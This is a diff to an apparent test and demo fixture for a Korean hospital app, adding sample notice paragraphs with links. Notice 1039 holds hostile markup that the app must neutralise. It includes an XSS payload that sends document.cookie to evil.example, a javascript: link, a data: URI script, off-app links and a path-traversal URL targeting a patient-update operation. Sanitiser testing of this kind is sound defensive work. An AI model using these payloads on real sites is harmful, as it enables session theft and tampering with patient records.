@@ -12,8 +12,9 @@ interface NoticeSeed {
 
 /**
  * Notices the demo and tests point at: 1024 is the pinned notice of the contract examples,
- * 1041-1043 were updated this week (new badge), and 1039 carries a script-injection attempt in
- * its HTML that the app must render harmless.
+ * 1041-1043 were updated this week (new badge; 1042 links a screen of the app, the hospital's web
+ * site and a phone number), and 1039 carries a script-injection attempt and links out of the app
+ * in its HTML that the app must render harmless.
  */
 const FIXED: NoticeSeed[] = [
   {
@@ -34,6 +35,10 @@ const FIXED: NoticeSeed[] = [
     paragraphs: [
       '만 65세 이상 어르신은 무료로 접종할 수 있습니다. 신분증을 지참하고 가정의학과로 오세요.',
       '접종 시간: 평일 오전 9시 ~ 오후 4시 30분',
+      // Links as the hospital's editor writes them: a screen of the app, its web site, a phone.
+      '<p>접종 예약은 <a href="/outpatient/appointment/step1">앱에서 진료 예약하기</a>, 자세한 안내는 ' +
+        '<a href="https://www.hanbit-hospital.kr/notice/flu">병원 누리집</a>, 문의는 ' +
+        '<a href="tel:02-2290-8000">02-2290-8000</a></p>',
     ],
   },
   {
@@ -62,6 +67,10 @@ const FIXED: NoticeSeed[] = [
       '앱을 새 버전으로 업데이트하면 가족 계정 전환이 더 빨라집니다.',
       // Pasted from an outside editor with hostile markup: the app must show only the text.
       '<img src="x" onerror="alert(\'xss\')"><script>document.location=\'https://evil.example/?c=\'+document.cookie</script><a href="javascript:alert(1)">업데이트 하러 가기</a>',
+      // Links that would leave the app inside its WebView, or call another operation (issue 21).
+      '<p><a href="http://evil.example/update">새 버전 받기</a> <a href="/\\evil.example/app">설치 안내</a> ' +
+        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">설명서</a> ' +
+        '<a href="/outpatient/result/..%2F..%2F..%2Fusers%2FupdatePatient%2F10000001%2F01099998888%3F/20261101/20261101">검사결과</a></p>',
     ],
   },
 ]
